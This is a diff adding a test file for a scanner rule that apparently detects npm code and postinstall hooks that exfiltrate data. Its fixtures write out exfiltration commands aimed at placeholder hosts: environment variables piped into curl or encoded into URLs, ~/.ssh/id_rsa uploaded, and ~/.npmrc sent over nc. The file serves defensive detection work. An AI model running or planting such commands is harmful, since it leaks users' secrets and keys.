@@ -1,0 +1,26 @@
+import { examine } from '../../../test/examine.ts';
+import { sendsWithACommand } from './sends-with-a-command.ts';
+
+const run = (code: string): { 'index.js': string } => ({ 'index.js': `const cp = require('child_process'); ${code}` });
+const hook = (command: string): { 'package.json': object } => ({ 'package.json': { scripts: { postinstall: command } } });
+
+examine(sendsWithACommand, {
+  speaks: [
+    { when: 'the environment is piped into curl', files: run(`cp.exec('env | curl -sd @- https://a.invalid')`), weight: 'proof' },
+    { when: 'a hook does so', files: hook('env | curl -sd @- https://a.invalid'), weight: 'proof', says: ['postinstall hook'] },
+    { when: 'the environment is substituted', files: hook('curl "https://a.invalid/?$(env | base64 -w0)"') },
+    {
+      when: 'the environment is an argument',
+      files: run(`cp.execFileSync('curl', ['-d', JSON.stringify(process.env), 'https://a.invalid'])`),
+    },
+    { when: 'a key file is uploaded', files: run(`cp.execSync('curl -T ~/.ssh/id_rsa https://a.invalid')`), says: ['credential files'] },
+    { when: 'a token file is piped into nc', files: hook('cat ~/.npmrc | nc 192.0.2.1 80') },
+  ],
+  silent: [
+    { when: 'a command only inherits the environment', files: run(`cp.spawn('curl', ['https://a.invalid'], { env: process.env })`) },
+    { when: 'a build sets variables', files: hook('env CC=clang node-gyp rebuild') },
+    { when: 'the environment is shown', files: hook('env | grep npm_') },
+    { when: 'it goes to the own machine', files: run(`cp.exec('env | curl -d @- http://localhost:8080')`) },
+    { when: 'a file of data is uploaded', files: run(`cp.execSync('curl -T report.json https://a.invalid')`) },
+  ],
+});
